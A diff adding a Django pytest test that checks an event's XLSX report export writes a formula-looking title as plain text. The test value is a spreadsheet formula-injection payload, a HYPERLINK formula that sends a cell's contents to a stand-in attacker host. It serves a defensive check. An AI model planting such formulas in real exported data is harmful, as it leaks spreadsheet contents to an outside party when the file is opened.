@@ -435,3 +435,19 @@ def test_the_programme_report_page_runs_the_same_queries_for_6_or_66_registratio
     print(f"programme report page: {len(small.captured_queries)} queries")
     with django_assert_num_queries(len(small.captured_queries)):
         assert client.get(url).status_code == 200
+
+
+@pytest.mark.django_db
+def test_a_title_that_looks_like_a_formula_is_written_as_text(organiser, held):
+    event, _sessions, _people = held
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    event.title = title
+    event.save(update_fields=["title"])
+
+    response = _client(organiser).get(
+        reverse("training:event_report_file", args=[event.pk, "xlsx"])
+    )
+
+    summary = load_workbook(io.BytesIO(response.content))["Summary"]
+    cell = next(row[1] for row in summary.iter_rows(min_row=2) if row[0].value == "Event")
+    assert cell.value == title and cell.data_type == "s"
